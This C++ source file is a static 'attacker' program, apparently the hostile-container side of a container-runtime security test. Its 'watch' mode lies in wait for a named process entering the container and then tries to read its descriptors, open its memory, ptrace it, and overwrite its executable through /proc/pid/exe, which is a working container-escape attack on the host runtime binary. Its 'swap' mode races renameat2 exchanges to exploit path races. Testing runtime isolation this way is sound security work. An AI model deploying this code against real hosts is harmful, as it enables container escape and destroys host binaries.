// What a hostile container runs (static, for a root file system without libraries).
//
//   attacker watch NAME SECONDS   looks at each new process of the pid namespace; while its name
//                                 begins with NAME, tries to read its descriptors, to trace it and
//                                 to open its program, for writing too
//   attacker swap A B SECONDS     exchanges two names, again and again
//
// Prints one line for each thing that was seen or succeeded.

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <string>

namespace {

constexpr unsigned kExchange = 2;  // RENAME_EXCHANGE of linux/fs.h

double seconds() {
    timespec now{};
    clock_gettime(CLOCK_MONOTONIC, &now);
    return static_cast<double>(now.tv_sec) + static_cast<double>(now.tv_nsec) / 1e9;
}

std::string read_text(const std::string& path) {
    char text[64] = {};
    const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) return "";
    const ssize_t size = read(fd, text, sizeof text - 1);
    close(fd);
    return std::string(text, size > 0 ? static_cast<size_t>(size) : 0);
}

// The process is still the runtime's: what was tried in between was tried on it.
bool is_called(const std::string& process, const std::string& name) {
    return read_text(process + "/comm").rfind(name, 0) == 0;
}

void say(const char* what, int pid) {
    printf("%s %d\n", what, pid);
    fflush(stdout);
}

bool opens(const std::string& path, int flags) {
    const int fd = open(path.c_str(), flags | O_CLOEXEC | O_NONBLOCK);
    if (fd >= 0) close(fd);
    return fd >= 0;
}

// The directory itself belongs to the uid that runs the process; what its links lead to is guarded.
bool reads_descriptor(const std::string& process) {
    char target[256];
    for (int fd = 0; fd < 12; ++fd) {
        const std::string path = process + "/fd/" + std::to_string(fd);
        if (readlink(path.c_str(), target, sizeof target) >= 0) return true;
    }
    return false;
}

bool traces(int pid) {
    if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) < 0) return false;
    waitpid(pid, nullptr, __WALL);
    ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    return true;
}

// The program may be written once nobody executes it any more (ETXTBSY until then).
void overwrite(int program) {
    const std::string name = "/proc/self/fd/" + std::to_string(program);
    for (int attempt = 0; attempt < 2000; ++attempt) {
        const int fd = open(name.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            const bool written = write(fd, "#!/bin/false\n", 13) == 13;
            close(fd);
            if (written) say("overwrote", program);
            return;
        }
        usleep(1000);
    }
}

void attack(int pid, const std::string& name) {
    const std::string process = "/proc/" + std::to_string(pid);
    if (!is_called(process, name)) return;
    say("saw", pid);
    const bool read = reads_descriptor(process);
    const bool memory = opens(process + "/mem", O_RDWR);
    const int program = open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
    if (!is_called(process, name)) {
        if (program >= 0) close(program);
        return;
    }
    if (read) say("descriptors", pid);
    if (memory) say("memory", pid);
    if (program >= 0) say("program", pid);
    if (traces(pid) && is_called(process, name)) say("traced", pid);
    if (program < 0) return;
    overwrite(program);
    close(program);
}

int watch(const std::string& name, double end) {
    int last = getpid();
    while (seconds() < end) {
        // Pids are handed out in order: the next processes are among the next few numbers.
        for (int pid = last + 1; pid < last + 8; ++pid) {
            if (access(("/proc/" + std::to_string(pid)).c_str(), F_OK) != 0) continue;
            // As long as it takes a process on a busy machine to get the name that is waited for.
            for (int look = 0; look < 20000 && seconds() < end; ++look) {
                const std::string now = read_text("/proc/" + std::to_string(pid) + "/comm");
                if (now.empty()) break;
                attack(pid, name);
            }
            last = pid;
            break;
        }
    }
    return 0;
}

int swap(const char* a, const char* b, double end) {
    long count = 0;
    while (seconds() < end)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, kExchange) == 0) ++count;
    printf("swapped %ld\n", count);
    return count > 0 ? 0 : 1;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string mode = argc > 1 ? argv[1] : "";
    if (mode == "watch" && argc == 4) return watch(argv[2], seconds() + atof(argv[3]));
    if (mode == "swap" && argc == 5) return swap(argv[2], argv[3], seconds() + atof(argv[4]));
    fprintf(stderr, "usage: attacker watch NAME SECONDS | swap A B SECONDS\n");
    return 2;
}
